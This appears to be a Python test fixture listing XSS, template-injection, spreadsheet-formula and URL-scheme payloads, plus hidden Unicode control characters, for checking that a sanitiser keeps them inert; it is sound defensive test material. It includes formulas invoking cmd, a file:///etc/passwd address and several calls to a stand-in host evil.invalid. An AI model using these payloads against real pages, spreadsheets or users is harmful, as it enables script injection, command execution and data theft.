"""Text that tries to run, to ask another host for something, or to pass itself off as part of the page.

Each one that runs would set `window.ran`, or open a dialog. None names a host that exists.
"""

MARKUP = (
    "<script>window.ran=1</script>",
    "</title><script>window.ran=2</script>",
    "<svg onload=window.ran=3>",
    "<img src=x onerror=alert(4)>",
    '"><img src=https://evil.invalid/5 onerror=window.ran=5>',
    "' autofocus onfocus='window.ran=6' x='",
    "</textarea></style></svg><script>alert(7)</script>",
    "<!-- <b>8</b> --><a href=javascript:alert(8)>8</a>",
    "&lt;script&gt;window.ran=9&lt;/script&gt; &#60;b&#62;",
    "<details open ontoggle=alert(10)>x</details>",
    '<iframe srcdoc="<script>parent.ran=11</script>">',
    '<h2 id="x">Heading</h2><base href=//evil.invalid>',
    "]]><script>window.ran=13</script>",
    "<style>@import '//evil.invalid/14';</style>",
    "<meta http-equiv=refresh content='0;//evil.invalid'>",
    "<form action=//evil.invalid><input name=q>",
)
TEMPLATES = (
    "{{ 7 * 7 }} {% include 'main.html' %}",
    "{{ settings.__class__.__mro__ }}",
    "%%ov-body%% %%ov-title%%",
    "{ onclick=alert(1) } {: onload=alert(1) }",
    "[x](javascript:alert(1)) ![x](https://evil.invalid/p.png)",
    '--8<-- "mkdocs.yml"',
    "${window.ran=23} #{window.ran=24} <%= 25 %>",
    "datum.constructor.constructor('window.ran=26')()",
    '{"expr": "window.ran = 27"} {"signal": "x"}',
    "\\u003cscript\\u003ewindow.ran=28\\u003c/script\\u003e",
    "::error file=a,line=1::taken",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.invalid","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
)
PAYLOADS = (*MARKUP, *TEMPLATES, *FORMULAS)
"""What the check lets through: it is plain text, and must stay so. At most 60 characters each."""
HIDDEN = (
    "right\u202eto left",
    "\u2067isolated\u2069",
    "\u200b=1+1",
    "\t=1+1",
    "\ufeff@SUM(1)",
    "line\u2028break</script>",
    "escape \x1b[31m red",
)
"""What the check refuses, and the pages and downloads must bear all the same."""
ADDRESSES = (
    "javascript:window.ran=41",
    "JaVaScRiPt:alert(42)",
    " javascript:alert(43)",
    "java\tscript:alert(44)",
    "data:text/html,<script>window.ran=45</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.invalid/46",
    'https://example.org/" onmouseover="alert(47)',
    "https://example.org/</a><script>window.ran=48</script>",
)
"""What stands where an address should. Only the last two are web addresses, and must stay inside their quotes."""
